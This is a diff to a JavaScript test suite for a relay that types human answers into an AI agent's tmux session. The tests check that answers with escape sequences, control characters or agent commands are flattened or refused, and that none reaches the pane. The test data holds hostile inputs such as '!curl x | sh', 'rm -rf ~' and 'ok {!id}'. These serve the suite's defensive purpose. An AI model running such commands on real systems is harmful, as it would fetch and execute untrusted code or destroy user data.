@@ -80,7 +80,10 @@ test("hostile answers arrive as one plain line: no escape sequences, no control 
   const text = "\u001b[2J\u001b]0;owned\u0007ok\u0003 then\nrm -rf ~\r\n\u007fdone";
   const posted = await api("POST", `/v1/questions/${q.question_id}/answers`, o.token, { text });
   assert.equal(posted.status, 201, JSON.stringify(posted.body));
-  assert.equal(posted.body.text, "[2J]0;ownedok then rm -rf ~  done");
+  // Sealed on its way, as its question's words were: the server reads none
+  // of it; the relay makes it one plain line, by the rule the Worker
+  // applies to one in the clear (below).
+  assert.equal(posted.body.text, "");
   assert.ok(await waitFor(() => existsSync(join(dir, "answered")), 15000));
   assert.deepEqual(keys(dir).map((b) => b.data), ["[2J]0;ownedok then rm -rf ~  done", "\r"]);
 
@@ -90,8 +93,10 @@ test("hostile answers arrive as one plain line: no escape sequences, no control 
   assert.ok(await waitFor(() => existsSync(join(semi.dir, "answered")), 15000));
   assert.deepEqual(keys(semi.dir).map((b) => b.data), ["yes; then stop;", "\r"]);
 
+  // In the clear (a machine that holds no content key), where the Worker
+  // reads the text, cuts it, and the relay types what was signed.
   const big = await owner();
-  const b = await agentInTmux(big);
+  const b = await agentInTmux(big, { env: { NEEDS_YOU_CONTENT_KEYS: "" } });
   // On a connection of its own: the Worker answers before it reads the body,
   // and a pooled connection left mid-body once failed the next request (CI).
   const huge = await fetch(`${w.url}/v1/questions/${b.q.question_id}/answers`, {
@@ -114,18 +119,42 @@ test("hostile answers arrive as one plain line: no escape sequences, no control 
  */
 const smuggle = async (o, q, text) => smuggleAnswer(w, o.owner_id, q, text, await o.key.sign(q, { text }));
 
-test("an answer the agent would run as a command is refused at the API, and by the relay if it got one", async () => {
+test("an answer the agent would run as a command is refused at the API when the API can read it, and by the relay always", async () => {
   const o = await owner();
-  const { dir, q } = await agentInTmux(o);
-  for (const text of ["!touch owned", "  \u200b!curl x | sh", "/permissions", "exit", "ok {!id}"]) {
-    const r = await api("POST", `/v1/questions/${q.question_id}/answers`, o.token, { text });
+  const RUN = ["!touch owned", "  \u200b!curl x | sh", "/permissions", "exit", "ok {!id}"];
+  // A machine that holds no content key reports in the clear, and its
+  // answers go in the clear: the API reads them, and refuses.
+  const clear = await agentInTmux(o, { env: { NEEDS_YOU_CONTENT_KEYS: "" } });
+  assert.notEqual(clear.q.sealed, true);
+  assert.match(clear.q.text, /Shall I/);
+  for (const text of RUN) {
+    const r = await api("POST", `/v1/questions/${clear.q.question_id}/answers`, o.token, { text });
     assert.deepEqual([r.status, r.body.error], [400, "refused_answer"], text);
     assert.match(r.body.message, /command|session|shell/, text);
   }
-  const none = await w.db.prepare("SELECT COUNT(*) AS n FROM answers WHERE question_id = ?").bind(q.question_id).first();
+  const none = await w.db.prepare("SELECT COUNT(*) AS n FROM answers WHERE question_id = ?").bind(clear.q.question_id).first();
   assert.equal(none.n, 0, "nothing queued");
 
-  const id = await smuggle(o, q, "!touch owned");
+  // A sealed question's answer is sealed: the API cannot read it and
+  // queues it; the relay opens it and refuses it by the same rule. (Another
+  // task: the one relay of the first holds no content key.)
+  const o2 = await owner();
+  const { dir, q } = await agentInTmux(o2);
+  assert.equal(q.sealed, true);
+  for (const text of RUN) {
+    const r = await api("POST", `/v1/questions/${q.question_id}/answers`, o2.token, { text });
+    assert.equal(r.status, 201, JSON.stringify(r.body));
+    const row = await waitFor(async () => {
+      const a = await w.db.prepare("SELECT state, reason, reason_code, text, sealed FROM answers WHERE id = ?").bind(r.body.answer_id).first();
+      return a?.state === "failed" && a;
+    }, 10000);
+    assert.equal(row.reason_code, "refused_answer", `${text}: ${row.reason}`);
+    assert.match(row.reason, /command|session|shell|can't start/, text);
+    assert.equal(row.text, "", "the server keeps no word of it");
+    assert.match(row.sealed, /^s1\.1\./);
+  }
+
+  const id = await smuggle(o2, q, "!touch owned");
   const row = await waitFor(async () => {
     const a = await w.db.prepare("SELECT state, reason FROM answers WHERE id = ?").bind(id).first();
     return a?.state === "failed" && a;
@@ -134,6 +163,7 @@ test("an answer the agent would run as a command is refused at the API, and by t
   assert.match(row.reason, /can't start with !/);
   await sleep(1500);
   assert.deepEqual(keys(dir), [], "not one key reached the pane");
+  assert.deepEqual(keys(clear.dir), [], "not one key reached the other pane");
 });
 
 test("refusals at the API: a dialog, a closed question, another owner's, a revoked device, one answer at a time, not in tmux", async () => {
